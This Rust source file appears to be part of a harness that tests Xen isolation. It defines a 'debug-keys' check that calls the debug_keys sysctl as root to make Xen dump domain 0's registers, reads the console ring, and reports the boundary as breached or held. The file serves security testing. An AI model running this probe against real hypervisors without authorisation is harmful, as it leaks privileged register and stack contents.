//! The keys of Xen's serial console, pressed by root. Only one that prints is tried; others crash or reboot.

use super::{Attack, Level};
use crate::layout::DebugKeys;
use crate::outcome::{Outcome, breached, broken, held, works};
use crate::xen::{Buffer, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "debug-keys",
    rule: "B10",
    level: Level::Confidentiality,
    summary: "sysctl(debug_keys): Xen prints registers and stacks of domain 0's kernel",
    needs: "privcmd",
    observed: "what Xen's console holds afterwards has the registers of domain 0",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin,
};

fn run() -> Outcome {
    const DEBUG_KEYS: u32 = 7;
    let privcmd = Privcmd::open()?;
    let (_, start) = privcmd.console_ring(None)?;
    let keys = Buffer::with(b"0")?;
    let answer = privcmd.sysctl(DEBUG_KEYS, &DebugKeys { keys: keys.address(), number: 1, end: 0 });
    // The handler runs a little later.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let (ring, _) = privcmd.console_ring(Some(start))?;
    match ring.lines().find(|line| line.contains("RIP:") || line.contains("rip:")) {
        Some(line) => breached(format!("Xen printed {} bytes, among them: {}", ring.len(), line.trim())),
        None => held(format!("debug_keys: {answer:?}; Xen printed {} bytes without registers", ring.len())),
    }
}

fn twin() -> Outcome {
    match Privcmd::open()?.console_ring(None) {
        Ok((text, _)) if !text.is_empty() => works(format!("{} bytes of Xen's console", text.len())),
        other => broken(format!("readconsole: {other:?}")),
    }
}
